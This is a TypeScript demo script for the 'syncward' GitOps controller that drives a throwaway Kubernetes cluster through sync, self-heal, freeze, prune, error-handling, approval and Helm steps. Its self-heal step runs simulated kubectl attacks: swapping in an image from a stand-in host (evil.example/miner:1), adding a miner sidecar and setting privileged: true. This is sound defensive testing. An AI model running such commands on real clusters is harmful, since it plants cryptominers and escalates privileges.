// `npm run demo`: the whole syncward story on a real control plane, as a person would play it.
// It starts (or reuses) the local control plane, makes a throwaway Git repository from
// examples/payments-config, runs `syncward controller` on it, and drives the story with the real
// CLI: sync, self-heal, freeze, prune, the empty-render guard, a broken manifest, and prod's
// approval gate and HPA-owned replicas, and a Helm chart environment (worker-dev). Every step prints PASS or FAIL; the exit code is 0 only
// when all pass. Whatever happens (Ctrl-C included), it removes what it created.
//   SYNCWARD_DEMO_KUBECONFIG=/path/to/kubeconfig  use an existing cluster instead of the local plane
import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { loadavg, tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { down, PlaneError, type UpResult, up } from "../tools/cluster/plane.ts";
import { buildHelm } from "./demo/build-helm.ts";
import { ControllerProcess } from "./demo/controller-process.ts";
import { DemoRepo } from "./demo/demo-repo.ts";
import { killRunning, type RunResult, run } from "./demo/run.ts";
import { bold, type Checks, heading, red, Story, say, showCommand, yellow } from "./demo/story.ts";
import { StepFailure, seconds, sleep, until } from "./demo/until.ts";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const BIN = join(root, "bin", "syncward.js");
const EXAMPLE = join(root, "examples", "payments-config");
const APP = "payments-config";
const suffix = randomBytes(3).toString("hex");
const DEV = `payments-dev-${suffix}`;
const PROD = `payments-prod-${suffix}`;
const STATE = `syncward-demo-${suffix}`;
const DEPLOYMENT = "deployment/payments-api";

interface AppStatus {
  syncStatus: string;
  health: string;
  revision: string;
  resources: Array<{ kind: string; name: string; status: string; health: string; message: string }>;
}

interface HistoryEntry {
  id: number;
  revision: string;
  trigger: string;
  result: string;
  message: string;
  counts: { created: number; configured: number; pruned: number; failed: number };
  reverted?: Array<{ path: string; manager?: string; security?: string }>;
  hooks?: Array<{ kind: string; name: string; phase: string; wave: number; outcome: string }>;
}

const story = new Story();
const tmp = mkdtempSync(join(tmpdir(), "syncward-demo-"));
const controllerLog = join(tmp, "controller.log");
let plane: Promise<UpResult> | undefined;
let kubeconfig: string | undefined;
let repo: DemoRepo | undefined;
let controller: ControllerProcess | undefined;

const short = (sha: string) => sha.slice(0, 7);
const quote = (arg: string) =>
  /^[\w@%+=:,./-]+$/.test(arg) ? arg : `"${arg.replace(/(["\\$`])/g, "\\$1")}"`;

function cluster(): string {
  if (!kubeconfig) throw new Error("no cluster yet");
  return kubeconfig;
}

function theRepo(): DemoRepo {
  if (!repo) throw new Error("no repository yet");
  return repo;
}

function theController(): ControllerProcess {
  if (!controller) throw new Error("no controller yet");
  return controller;
}

/** `syncward ARGS` with the demo's repository, cluster, app and state namespace. */
/** The flags every syncward command of the demo shares: its repository, cluster, app and state. */
function commonFlags(): string[] {
  return ["--repo", theRepo().dir, "--kubeconfig", cluster(), "--app", APP, "--state-namespace", STATE];
}

async function syncward(args: string[], opts: { show?: boolean } = {}): Promise<RunResult> {
  const res = await run(process.execPath, [BIN, ...args, ...commonFlags()]);
  if (opts.show ?? true) {
    const exit = res.code === 0 ? "" : `\n(exit code ${res.code})`;
    showCommand(`syncward ${args.map(quote).join(" ")}`, `${res.stdout}${res.stderr}${exit}`);
  }
  return res;
}

/** `syncward ARGS -o json`, parsed; not shown (the story shows the human form next to it). */
async function syncwardJson<T>(args: string[]): Promise<T> {
  const res = await syncward([...args, "-o", "json"], { show: false });
  if (res.code !== 0) throw new Error(`syncward ${args.join(" ")} exited ${res.code}: ${res.stderr.trim()}`);
  return JSON.parse(res.stdout) as T;
}

async function kubectl(args: string[], opts: { show?: boolean } = {}): Promise<RunResult> {
  const res = await run("kubectl", ["--kubeconfig", cluster(), ...args]);
  if (opts.show) showCommand(`kubectl ${args.map(quote).join(" ")}`, `${res.stdout}${res.stderr}`);
  return res;
}

/** spec.replicas of payments-api in `namespace`, or undefined when it is not there. */
async function replicas(namespace: string): Promise<number | undefined> {
  const res = await kubectl(["get", DEPLOYMENT, "-n", namespace, "-o", "jsonpath={.spec.replicas}"]);
  return res.code === 0 && res.stdout.trim() !== "" ? Number(res.stdout.trim()) : undefined;
}

async function jsonpath(namespace: string, path: string): Promise<string> {
  const res = await kubectl(["get", DEPLOYMENT, "-n", namespace, "-o", `jsonpath=${path}`]);
  return res.stdout.trim();
}

async function exists(kind: string, name: string, namespace: string): Promise<boolean> {
  const res = await kubectl(["get", kind, name, "-n", namespace, "-o", "name", "--ignore-not-found"]);
  if (res.code !== 0) throw new Error(`kubectl get ${kind} ${name}: ${res.stderr.trim()}`);
  return res.stdout.trim() !== "";
}

async function scale(namespace: string, count: number): Promise<void> {
  const res = await kubectl(["scale", DEPLOYMENT, `--replicas=${count}`, "-n", namespace], { show: true });
  if (res.code !== 0) throw new StepFailure(`kubectl scale failed: ${res.stderr.trim()}`);
}

/** Polls until spec.replicas is `count`; returns how long it took. */
async function replicasBecome(namespace: string, count: number, what: string): Promise<number> {
  let last: number | undefined;
  const { ms } = await until(
    what,
    async () => {
      last = await replicas(namespace);
      return last === count;
    },
    { last: () => `replicas ${last}` },
  );
  return ms;
}

/** Watches spec.replicas for `ms`; returns every value other than `count` it saw. */
async function replicasStay(namespace: string, count: number, ms: number): Promise<number[]> {
  const seen: number[] = [];
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    const n = await replicas(namespace);
    if (n !== count) seen.push(n ?? -1);
    await sleep(200);
  }
  return seen;
}

/** Polls `app history ENV -o json` until an entry at `revision` satisfies `accept`. */
async function historyEntry(
  env: string,
  revision: string,
  what: string,
  accept: (e: HistoryEntry) => boolean = () => true,
): Promise<{ entry: HistoryEntry; history: HistoryEntry[] }> {
  let history: HistoryEntry[] = [];
  const { value } = await until(
    what,
    async () => {
      history = await syncwardJson<HistoryEntry[]>(["app", "history", env]);
      return history.find((e) => e.revision === revision && accept(e));
    },
    {
      last: () =>
        history
          .slice(-3)
          .map((e) => `#${e.id} ${short(e.revision)} ${e.trigger} ${e.result}`)
          .join(", ") || "no history",
    },
  );
  return { entry: value, history };
}

async function commitShown(message: string, paths?: string[]): Promise<string> {
  const sha = await theRepo().commit(message, paths);
  say(bold(`$ git commit -m ${quote(message)}`));
  say(`    [main ${short(sha)}] ${message}`);
  return sha;
}

async function revertShown(): Promise<string> {
  const sha = await theRepo().revert();
  say(bold("$ git revert --no-edit HEAD"));
  say(`    [main ${short(sha)}] ${(await theRepo().git(["log", "-1", "--format=%s"])).trim()}`);
  return sha;
}

/** What a broken commit must not change: the objects there, their specs and data. */
async function clusterSnapshot(namespace: string): Promise<string> {
  const res = await kubectl([
    "get",
    "deployments,services,configmaps",
    "-n",
    namespace,
    "-l",
    `syncward.dev/instance=${APP}.dev`,
    "-o",
    "jsonpath={range .items[*]}{.kind}/{.metadata.name} generation={.metadata.generation} replicas={.spec.replicas} data={.data}{'\\n'}{end}",
  ]);
  if (res.code !== 0) throw new StepFailure(`kubectl get failed: ${res.stderr.trim()}`);
  return res.stdout.trim();
}

async function startPlane(): Promise<string> {
  heading("1. Kubernetes");
  const given = process.env.SYNCWARD_DEMO_KUBECONFIG;
  if (given) {
    say(`Using the existing cluster in ${given} (SYNCWARD_DEMO_KUBECONFIG); nothing is built or started.`);
    return given;
  }
  say("Starting the local control plane (etcd, kube-apiserver, controller-manager, scheduler, kwok).");
  say("The first run builds it from Go modules (about 10 minutes on 2 cores); later runs reuse the cache.");
  plane = up();
  const { state, alreadyUp } = await plane;
  say(
    alreadyUp
      ? `A control plane is already up at ${state.server}: reusing it (and leaving it running afterwards).`
      : `Control plane started at ${state.server} (stopped again at the end).`,
  );
  return state.kubeconfig;
}

async function makeRepo(): Promise<DemoRepo> {
  heading("2. A throwaway Git repository");
  const dir = join(tmp, "payments-config");
  const made = await DemoRepo.create(EXAMPLE, dir, suffix);
  say(`Copied examples/payments-config to ${dir} and committed it on main (${short(await made.head())}).`);
  say(`Namespaces renamed for this run: dev -> ${DEV}, prod -> ${PROD}; syncward's state in ${STATE}.`);
  showCommand("cat .github/syncward.yml", made.read(".github/syncward.yml"));
  return made;
}

async function startController(): Promise<void> {
  heading("3. The controller");
  const args = [...commonFlags(), "--poll", "2s"];
  say(bold(`$ syncward controller ${args.map(quote).join(" ")} 2>${controllerLog} &`));
  say("(its lines appear below as `controller | ...` while the story goes on; JSON logs go to the file)");
  // Kept before waiting, so that cleanup stops it even if it never says it is watching.
  controller = ControllerProcess.start(BIN, args, controllerLog, root);
  await controller.waitFor(/syncward controller: watching/, 0, "the controller start");
}

async function playStory(): Promise<void> {
  say();
  say(
    `Below, \`syncward ...\` runs \`node bin/syncward.js ... --repo ${theRepo().dir} --kubeconfig ${cluster()} --app ${APP} --state-namespace ${STATE}\`.`,
  );
  const c = theController();
  const r = theRepo();
  let rev0 = "";

  const synced = await story.step("a", "dev is synced from Git: Synced and Healthy", async (ck) => {
    // The first rollout waits for pods to become Ready: show each state on the way.
    let last = "";
    const { value, ms } = await until(
      "dev Synced and Healthy",
      async () => {
        const s = await syncwardJson<AppStatus>(["app", "get", "dev"]);
        const now = `${s.syncStatus}, ${s.health}`;
        if (now !== last) say(`dev is ${now}`);
        last = now;
        return s.syncStatus === "Synced" && s.health === "Healthy" && s;
      },
      { timeoutMs: 90_000, last: () => last },
    );
    rev0 = value.revision;
    const out = (await syncward(["app", "get", "dev"])).stdout;
    ck.expect(/Sync Status:\s+Synced to main/.test(out), "`app get dev` does not show `Synced to main`");
    ck.expect(/Health Status:\s+Healthy/.test(out), "`app get dev` does not show `Health Status: Healthy`");
    ck.note(`Synced and Healthy at ${short(rev0)} after ${seconds(ms)}`);
  });
  if (!synced) {
    for (const [id, title] of [
      ["b", "self-heal"],
      ["c", "freeze"],
      ["d", "unfreeze"],
      ["e", "prune"],
      ["f", "empty render"],
      ["g", "broken manifest"],
      ["h", "prod approval"],
      ["i", "prod manual sync"],
      ["j", "Helm chart environment"],
    ] as const)
      story.skip(id, title, "dev never became Synced and Healthy");
    return;
  }

  // The goal is a revert within a second (BENCHMARKS.md measures ~30 ms); the time shown here also
  // counts kubectl's own start-up on every poll, so on a loaded machine it can pass a second with
  // nothing wrong. The step fails only when a change is not reverted at all (within 10 s).
  await story.step("b", "self-heal reverts four kubectl attacks, each within seconds", async (ck) => {
    const image = await jsonpath(DEV, "{.spec.template.spec.containers[0].image}");
    const attacks: Array<{ what: string; args: string[]; undone: () => Promise<boolean> }> = [
      {
        what: "image swapped",
        args: ["set", "image", DEPLOYMENT, "api=evil.example/miner:1"],
        undone: async () => (await jsonpath(DEV, "{.spec.template.spec.containers[0].image}")) === image,
      },
      {
        what: "sidecar added",
        args: [
          "patch",
          DEPLOYMENT,
          "-p",
          '{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example/miner:1"}]}}}}',
        ],
        undone: async () => (await jsonpath(DEV, "{.spec.template.spec.containers[*].name}")) === "api",
      },
      {
        what: "privileged: true",
        args: [
          "patch",
          DEPLOYMENT,
          "--type=json",
          "-p",
          '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]',
        ],
        undone: async () =>
          (await jsonpath(DEV, "{.spec.template.spec.containers[0].securityContext}")) === "",
      },
      {
        what: "replicas 3 -> 10",
        args: ["scale", DEPLOYMENT, "--replicas=10"],
        undone: async () => (await replicas(DEV)) === 3,
      },
    ];
    const times: string[] = [];
    for (const attack of attacks) {
      const res = await kubectl([...attack.args, "-n", DEV], { show: true });
      if (res.code !== 0) throw new StepFailure(`kubectl ${attack.args[0]} failed: ${res.stderr.trim()}`);
      const { ms } = await until(`${attack.what}: reverted`, async () => attack.undone(), {
        timeoutMs: 10_000,
      });
      const slow = ms >= 1_000 ? ` (over the 1 s goal; load ${(loadavg()[0] ?? 0).toFixed(1)})` : "";
      say(`${attack.what}: reverted after ${seconds(ms)}${slow}`);
      times.push(`${attack.what} ${seconds(ms)}${slow}`);
    }
    // One history read, accepted once all four heals are in it.
    const { value: history } = await until("four selfHeal entries in `app history dev`", async () => {
      const h = await syncwardJson<HistoryEntry[]>(["app", "history", "dev"]);
      return h.filter((e) => e.trigger === "selfHeal").length >= 4 && h;
    });
    await syncward(["app", "history", "dev"], { show: true });
    const heals = history.filter((h) => h.trigger === "selfHeal");
    ck.expect(
      heals.length >= 4 && heals.every((h) => h.revision === rev0),
      `expected 4 selfHeal entries at ${short(rev0)}, found ${heals.map((h) => short(h.revision)).join(", ")}`,
    );
    const flagged = heals.flatMap((h) => h.reverted ?? []).filter((r) => r.security);
    ck.expect(
      flagged.length >= 3,
      `the image, sidecar and privileged reverts are flagged (${flagged.length} flagged)`,
    );
    ck.note(
      `${times.join(", ")}; ${heals.length} selfHeal entries at ${short(rev0)}, ${flagged.length} flagged security-relevant`,
    );
  });

  await story.step("c", "a frozen environment keeps its drift", async (ck) => {
    const frozen = await syncward(["app", "freeze", "dev", "--reason", "demo freeze"]);
    ck.expect(frozen.code === 0, `app freeze exited ${frozen.code}`);
    await scale(DEV, 7);
    say("watching the replicas for 4s...");
    const changed = await replicasStay(DEV, 7, 4000);
    ck.expect(
      changed.length === 0,
      `replicas changed while frozen (saw ${[...new Set(changed)].join(", ")})`,
    );
    const out = (await syncward(["app", "get", "dev"])).stdout;
    ck.expect(
      /Sync Policy:\s+Frozen by .*\(demo freeze\)/.test(out),
      "`app get dev` does not show `Frozen by ...`",
    );
    ck.expect(
      /Deployment\s+\S+\s+payments-api\s+OutOfSync.*\/spec\/replicas/.test(out),
      "`app get dev` does not show the Deployment OutOfSync with its drifted /spec/replicas",
    );
    ck.note("replicas stayed at 7 for 4s; `app get dev` shows Frozen by ... (demo freeze) and the drift");
  });

  await story.step("d", "unfreeze: it heals back", async (ck) => {
    const res = await syncward(["app", "unfreeze", "dev"]);
    ck.expect(res.code === 0, `app unfreeze exited ${res.code}`);
    ck.expect(
      /Sync Policy: Automated \(Prune, SelfHeal\)/.test(res.stdout),
      "policy is not back to Automated",
    );
    const ms = await replicasBecome(DEV, 3, "replicas back to 3 after unfreeze");
    say(`replicas back to 3 after ${seconds(ms)}`);
    ck.note(`replicas 7 -> 3 in ${seconds(ms)} after unfreeze`);
  });

  await story.step("e", "a manifest deleted in Git is pruned", async (ck) => {
    const kustomization = r.read("base/kustomization.yaml");
    r.write("base/kustomization.yaml", kustomization.replace(/^ {2}- service\.yaml\n/m, ""));
    await r.git(["rm", "-q", "base/service.yaml"]);
    say(bold("$ git rm base/service.yaml   # and drop it from base/kustomization.yaml's resources"));
    const sha = await commitShown("Retire the payments-api Service");
    const { ms } = await until(
      "the Service pruned from dev",
      async () => !(await exists("service", "payments-api", DEV)),
    );
    say(`service/payments-api is gone from ${DEV} ${seconds(ms)} after the commit`);
    const { entry } = await historyEntry("dev", sha, `a sync of ${short(sha)} in the history`, (e) =>
      ["Succeeded", "Failed", "Error", "Refused"].includes(e.result),
    );
    await syncward(["app", "history", "dev"]);
    say(`history #${entry.id}: ${entry.result}: ${entry.message}`);
    ck.expect(
      entry.result === "Succeeded" && entry.counts.pruned === 1,
      `history #${entry.id} at ${short(sha)} is ${entry.result} with ${entry.counts.pruned} pruned (expected Succeeded, 1 pruned)`,
    );
    ck.expect(await exists("deployment", "payments-api", DEV), "the Deployment is gone too");
    ck.note(
      `Service pruned ${seconds(ms)} after commit ${short(sha)}; history #${entry.id}: ${entry.message}`,
    );
  });

  /** Reverts the last commit and checks that dev synced the revert. */
  const revertAndConfirm = async (ck: Checks): Promise<string> => {
    const revert = await revertShown();
    const synced = await historyEntry("dev", revert, `the revert ${short(revert)} synced`, (e) =>
      ["Succeeded", "Failed", "Error", "Refused"].includes(e.result),
    );
    ck.expect(
      synced.entry.result === "Succeeded",
      `the revert's sync is ${synced.entry.result}: ${synced.entry.message}`,
    );
    return revert;
  };

  await story.step("f", "a commit that empties the render is refused", async (ck) => {
    const before = r.read("base/kustomization.yaml");
    r.write("base/kustomization.yaml", before.replace(/^resources:\n(?: {2}- .*\n)+/m, "resources: []\n"));
    say(bold("$ # base/kustomization.yaml: resources: []   (a bad merge empties the base)"));
    const from = c.mark();
    const sha = await commitShown("Empty the base (by mistake)");
    await c.waitFor(/^\[dev\] \S+ sync .*refusing to prune/, from, "the refusal in the controller output");
    const { entry } = await historyEntry("dev", sha, `the refused sync of ${short(sha)} in the history`);
    await syncward(["app", "history", "dev"]);
    say(`history #${entry.id}: ${entry.result}: ${entry.message}`);
    const refusal = /render produced 0 objects; refusing to prune (\d+) live objects?/.exec(entry.message);
    ck.expect(
      entry.result === "Refused" && refusal !== null,
      `history #${entry.id} is ${entry.result}: "${entry.message}" (expected Refused: render produced 0 objects; refusing to prune N live objects)`,
    );
    const deployment = await exists("deployment", "payments-api", DEV);
    const configMap = await exists("configmap", "payments-settings", DEV);
    ck.expect(
      deployment && configMap,
      `objects were deleted: Deployment ${deployment}, ConfigMap ${configMap}`,
    );
    const revert = await revertAndConfirm(ck);
    ck.note(
      `refused to prune ${refusal?.[1] ?? "?"} live objects at ${short(sha)}; Deployment and ConfigMap still there; revert ${short(revert)} synced`,
    );
  });

  await story.step("g", "a broken manifest names its file and line and changes nothing", async (ck) => {
    const before = await clusterSnapshot(DEV);
    // A stray space after a colon: `image: repo/name: tag` is a nested mapping, which YAML refuses.
    const good = "          image: ghcr.io/example/payments-api:1.4.2";
    const text = r.read("base/deployment.yaml");
    const line = text.split("\n").indexOf(good) + 1;
    if (line === 0) throw new StepFailure(`base/deployment.yaml has no \`${good.trim()}\` line to break`);
    r.write("base/deployment.yaml", text.replace(good, good.replace(":1.4.2", ": 1.4.2")));
    say(
      bold(
        `$ # base/deployment.yaml line ${line}: \`image: ghcr.io/example/payments-api: 1.4.2\` (a stray space)`,
      ),
    );
    const from = c.mark();
    const sha = await commitShown("Pin the image tag (typo)");
    await c.waitFor(/^\[dev\] \S+ render failed/, from, "dev's render error in the controller output");
    await sleep(300);
    const output = c.since(from);
    const { entry } = await historyEntry("dev", sha, `the render error of ${short(sha)} in the history`);
    await syncward(["app", "history", "dev"]);
    say(`history #${entry.id}: ${entry.result}: ${entry.message}`);
    ck.expect(entry.result === "Error", `history #${entry.id} is ${entry.result}, expected Error`);
    const named = (t: string) =>
      new RegExp(`base/deployment\\.yaml:${line}\\b`).test(t) ||
      (t.includes("base/deployment.yaml") && new RegExp(`\\bline ${line}\\b`).test(t));
    ck.expect(
      named(output) || named(entry.message),
      `expected the error to name base/deployment.yaml line ${line}, the line with the typo; it says: ${entry.message.replace(/^render failed: /, "").split("\n")[0]}`,
    );
    const after = await clusterSnapshot(DEV);
    ck.expect(after === before, `the cluster changed:\nbefore:\n${before}\nafter:\n${after}`);
    await revertAndConfirm(ck);
    ck.note(
      `render error at ${short(sha)} names base/deployment.yaml:${line}; cluster unchanged; revert synced`,
    );
  });

  await story.step("h", "prod waits for approval", async (ck) => {
    const waiting = c.lines.findLast((l) => /^\[prod\] \S+ waiting for approval/.test(l));
    ck.expect(waiting !== undefined, "the controller never said prod is waiting for approval");
    const res = await syncward(["app", "get", "prod"]);
    ck.expect(
      /Sync Status:\s+OutOfSync from main/.test(res.stdout),
      "`app get prod` does not show OutOfSync",
    );
    ck.expect(
      !(await exists("deployment", "payments-api", PROD)),
      "prod has a Deployment before any approval",
    );
    say(
      "prod is automated but needs an `/approve` on GitHub first; `syncward app sync` is the manual path that does not wait for it.",
    );
    ck.note(`held: "${waiting ?? ""}"; \`app get prod\` shows OutOfSync and nothing is deployed`);
  });

  await story.step("i", "prod: a manual sync keeps the HPA-owned replicas", async (ck) => {
    const first = await syncward(["app", "sync", "prod"]);
    ck.expect(
      first.code === 0 && /Operation: Succeeded/.test(first.stdout),
      `app sync prod exited ${first.code}`,
    );
    await replicasBecome(PROD, 3, "prod Deployment with 3 replicas");
    await scale(PROD, 5);
    const second = await syncward(["app", "sync", "prod"]);
    ck.expect(
      second.code === 0 && /Operation: Succeeded/.test(second.stdout),
      `the second app sync prod exited ${second.code}`,
    );
    const changed = await replicasStay(PROD, 5, 2000);
    ck.expect(
      changed.length === 0,
      `replicas were reset (saw ${[...new Set(changed)].join(", ")}, expected 5)`,
    );
    const get = await syncward(["app", "get", "prod"]);
    ck.expect(
      /Sync Status:\s+Synced to main/.test(get.stdout),
      "`app get prod` reports the HPA-owned replicas as drift (not Synced)",
    );
    if (/Health Status:\s+Degraded/.test(get.stdout))
      say(
        "(the HPA is Degraded here because this control plane has no metrics server: it cannot read CPU usage, so it leaves the replicas alone)",
      );
    ck.note(
      "synced by hand; replicas scaled to 5 stay 5 after `app sync prod` (ignoreDifferences + RespectIgnoreDifferences)",
    );
  });

  await helmStep(r);
  await story.step("k", "a release runs its PreSync migration Job first, then cleans it up", async (ck) => {
    r.write(
      "base/migrate-job.yaml",
      [
        "# Schema migrations of the release, before its pods roll out; deleted once it succeeded.",
        "apiVersion: batch/v1",
        "kind: Job",
        "metadata:",
        "  name: payments-migrate",
        "  annotations:",
        "    argocd.argoproj.io/hook: PreSync",
        "    argocd.argoproj.io/hook-delete-policy: HookSucceeded",
        "spec:",
        "  backoffLimit: 0",
        "  template:",
        "    spec:",
        "      restartPolicy: Never",
        "      containers:",
        "        - name: migrate",
        "          image: ghcr.io/example/payments-api:1.4.3",
        '          args: ["migrate", "--to", "latest"]',
        "",
      ].join("\n"),
    );
    r.write(
      "base/kustomization.yaml",
      r
        .read("base/kustomization.yaml")
        .replace("  - configmap.yaml\n", "  - configmap.yaml\n  - migrate-job.yaml\n"),
    );
    r.write(
      "base/deployment.yaml",
      r.read("base/deployment.yaml").replace("payments-api:1.4.2", "payments-api:1.4.3"),
    );
    say(bold("$ # release 1.4.3: base/migrate-job.yaml (PreSync hook, HookSucceeded) and the new image tag"));
    const sha = await commitShown("Release 1.4.3 with a schema migration");
    const { entry } = await historyEntry("dev", sha, `the release ${short(sha)} in the history`, (e) =>
      ["Succeeded", "Failed", "Error", "Refused"].includes(e.result),
    );
    const migrate = entry.hooks?.find((h) => h.name === "payments-migrate");
    say(`history #${entry.id}: ${entry.result}: ${entry.message}`);
    for (const h of entry.hooks ?? [])
      say(`  hook ${h.kind}/${h.name}: ${h.phase}, wave ${h.wave}: ${h.outcome}`);
    ck.expect(
      entry.result === "Succeeded" && migrate?.phase === "PreSync" && migrate.outcome === "Succeeded",
      `history #${entry.id} is ${entry.result} with hooks ${JSON.stringify(entry.hooks ?? [])} (expected Succeeded and payments-migrate PreSync Succeeded)`,
    );
    const { ms } = await until(
      "the migration Job to be cleaned up",
      async () => !(await exists("job", "payments-migrate", DEV)),
    );
    await kubectl(["get", "jobs", "-n", DEV], { show: true });
    ck.note(
      `payments-migrate ran in PreSync before the 1.4.3 rollout and was deleted ${seconds(ms)} after the sync (HookSucceeded)`,
    );
  });
}

/** worker-dev is a Helm chart: synced like the rest, its chart shown, a values change deployed. */
async function helmStep(r: DemoRepo): Promise<void> {
  await story.step(
    "j",
    "a Helm chart environment (worker-dev) is synced, and a values change deploys",
    async (ck) => {
      let last = "";
      await until(
        "worker-dev Synced and Healthy",
        async () => {
          const s = await syncwardJson<AppStatus>(["app", "get", "worker-dev"]);
          last = `${s.syncStatus}, ${s.health}`;
          return s.syncStatus === "Synced" && s.health === "Healthy";
        },
        { timeoutMs: 90_000, last: () => last },
      );
      const get = (await syncward(["app", "get", "worker-dev"])).stdout;
      ck.expect(
        /^Chart:\s+payments-worker 0\.3\.0$/m.test(get),
        "`app get worker-dev` does not show the chart",
      );
      const values = "charts/payments-worker/values-dev.yaml";
      r.write(values, r.read(values).replace("concurrency: 2", "concurrency: 3"));
      await commitShown("worker-dev: concurrency 3", [values]);
      let seen = "";
      const { ms } = await until(
        "CONCURRENCY 3 in the worker's ConfigMap",
        async () => {
          const res = await kubectl([
            "get",
            "configmap",
            "worker-dev-config",
            "-n",
            DEV,
            "-o",
            "jsonpath={.data.CONCURRENCY}",
          ]);
          seen = res.stdout.trim();
          return seen === "3";
        },
        { last: () => `CONCURRENCY ${seen || "(none)"}` },
      );
      ck.note(
        `chart payments-worker 0.3.0 Synced and Healthy; values-dev.yaml concurrency 2 -> 3 live after ${seconds(ms)}`,
      );
    },
  );
}

function printControllerLogTail(): void {
  if (!existsSync(controllerLog)) return;
  const lines = readFileSync(controllerLog, "utf8").trimEnd().split("\n").slice(-15);
  if (lines.length === 0 || lines[0] === "") return;
  heading("The controller's stderr (its JSON log), last 15 lines, for the failures above");
  for (const line of lines) say(`  ${line}`);
}

let cleaning: Promise<void> | undefined;

function cleanup(): Promise<void> {
  cleaning ??= (async () => {
    heading("5. Cleaning up");
    if (controller) {
      say("stopping the controller");
      await controller.stop();
    }
    killRunning();
    if (!kubeconfig && plane) kubeconfig = (await plane.catch(() => undefined))?.state.kubeconfig;
    if (kubeconfig) {
      const res = await run("kubectl", [
        "--kubeconfig",
        kubeconfig,
        "delete",
        "namespace",
        DEV,
        PROD,
        STATE,
        "--ignore-not-found",
        "--wait=false",
      ]);
      showCommand(
        `kubectl delete namespace ${DEV} ${PROD} ${STATE} --ignore-not-found --wait=false`,
        `${res.stdout}${res.stderr}`,
      );
    }
    rmSync(tmp, { recursive: true, force: true });
    say(`removed ${tmp}`);
    const started = plane ? await plane.catch(() => undefined) : undefined;
    if (started && !started.alreadyUp) {
      say("stopping the control plane this demo started");
      await down();
    } else if (started) {
      say("the control plane was already up: leaving it running");
    }
  })();
  return cleaning;
}

function onSignal(signal: NodeJS.Signals): void {
  if (story.interrupted) {
    say(red(`${signal} again: exiting without finishing the cleanup`));
    process.exit(130);
  }
  story.interrupted = true;
  say(yellow(`\n${signal}: stopping the demo and cleaning up what it started (press Ctrl-C again to skip)`));
  void cleanup().finally(() => process.exit(130));
}

async function main(): Promise<number> {
  const started = Date.now();
  process.on("SIGINT", onSignal);
  process.on("SIGTERM", onSignal);
  say(bold("syncward demo: a GitOps story on a real Kubernetes API server"));
  let setupError: string | undefined;
  try {
    kubeconfig = await startPlane();
    await buildHelm(root);
    repo = await makeRepo();
    await startController();
    await playStory();
  } catch (err) {
    setupError =
      err instanceof PlaneError || err instanceof StepFailure
        ? err.message
        : err instanceof Error
          ? (err.stack ?? err.message)
          : String(err);
  }
  if (story.interrupted) {
    await cleanup(); // the signal handler exits once it is done
    return 130;
  }
  if (setupError) say(red(`\nFAIL  the demo could not run: ${setupError}`));
  if (setupError || story.failed.length > 0) printControllerLogTail();
  await cleanup();
  story.summary(Date.now() - started, setupError);
  return setupError || story.failed.length > 0 ? 1 : 0;
}

process.exitCode = await main();
